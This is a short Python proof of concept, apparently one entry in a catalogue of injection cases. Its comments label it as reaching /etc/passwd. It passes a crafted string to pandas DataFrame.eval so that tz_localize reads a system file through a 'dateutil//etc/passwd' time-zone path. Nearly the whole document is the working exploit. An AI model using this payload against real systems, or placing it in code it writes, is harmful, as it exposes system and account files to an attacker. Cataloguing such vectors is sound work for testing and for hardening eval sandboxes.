# class: pandas-strings
# mechanism: eval of a table
# how: a time zone by path in the text
# reaches: reads /etc/passwd
import pandas as pd
df = pd.DataFrame({"a": pd.to_datetime(["2024-01-01"])})
df.eval("a.dt.tz_localize('dateutil//etc/passwd')")
